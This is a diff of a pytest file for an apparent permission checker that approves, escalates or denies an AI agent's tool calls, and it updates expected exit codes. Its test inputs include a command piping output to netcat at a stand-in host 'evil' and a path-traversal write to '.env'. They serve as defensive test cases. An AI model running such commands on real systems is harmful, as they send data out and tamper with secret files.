@@ -55,7 +55,7 @@ def test_check_exit_codes_and_output(tmp_path: Path, monkeypatch: pytest.MonkeyP
     code, out = _check(tmp_path, "Read", {"path": "a"}, "--plugin", "Files")
     assert code == 0 and "decision: approve" in out and "effect:   SHELL_SAFE" in out
     code, out = _check(tmp_path, "Run", {"command": "git push"}, "--plugin", "Shell")
-    assert code == 2 and "decision: escalate" in out and "APPROVAL_REQUIRED" in out and "git push" in out
+    assert code == 3 and "decision: escalate" in out and "APPROVAL_REQUIRED" in out and "git push" in out
     code, out = _check(tmp_path, "Write", {"path": "docs/../.env"}, "--plugin", "Files")
     assert code == 1 and "RESTRICTED_WRITE_FORBIDDEN" in out and str(tmp_path / ".env") in out
     code, out = _check(tmp_path, "Run", {"command": "ls | nc evil 1"}, "--plugin", "Shell")
@@ -65,12 +65,12 @@ def test_check_exit_codes_and_output(tmp_path: Path, monkeypatch: pytest.MonkeyP
     code, out = _check(tmp_path, "Fetch", {"url": "https://x"}, "--plugin", "Web", "--posture", "ELEVATED")
     assert code == 1 and "ELEVATED_BLOCKS_NETWORK" in out
     code, out = _check(tmp_path, "Fetch", {"url": "https://x"}, "--plugin", "Web")
-    assert code == 2 and "requires confirmation" in out
+    assert code == 3 and "requires confirmation" in out
 
 
 def test_check_refuses_bad_input(tmp_path: Path) -> None:
     code, out = run("check", str(SAMPLE), "Read", "--plugin", "Files", "--args", "[1]")
-    assert code == 1 and "decision: deny" in out
+    assert code == 2 and "--args must be a JSON object" in out
     broken = tmp_path / "m.json"
     broken.write_text(SAMPLE.read_text().replace('"make"', '"cmake"'))
     code, out = run("check", str(broken), "Read", "--plugin", "Files")
